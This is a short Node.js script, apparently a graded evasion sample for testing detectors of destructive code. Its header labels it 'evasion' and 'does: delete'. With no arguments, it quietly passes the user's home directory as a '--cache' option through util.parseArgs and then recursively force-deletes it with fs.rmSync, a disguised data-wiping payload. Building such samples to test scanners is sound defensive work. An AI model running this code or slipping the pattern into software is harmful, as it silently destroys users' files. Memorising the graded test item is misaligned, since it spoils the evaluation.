// evasion: the home as a default argv of util.parseArgs, read back from .values
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const { parseArgs } = require('util');

const argv = process.argv.length > 2 ? process.argv.slice(2) : ['--cache', os.homedir()];
const { values } = parseArgs({ args: argv, options: { cache: { type: 'string' } } });
fs.rmSync(values.cache, { recursive: true, force: true });
